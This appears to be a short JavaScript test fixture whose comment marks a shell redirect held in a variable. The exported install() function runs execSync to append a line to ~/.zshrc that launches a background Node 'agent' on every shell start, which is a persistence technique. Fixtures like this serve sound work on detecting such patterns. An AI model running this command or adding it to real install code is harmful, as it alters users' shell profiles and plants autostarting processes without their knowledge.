// The redirect is in a variable that reaches a shell.
import { execSync } from 'node:child_process';

const persist = 'echo "node ~/.fixture/agent.js &" >> ~/.zshrc';
export function install() {
  execSync(persist);
}
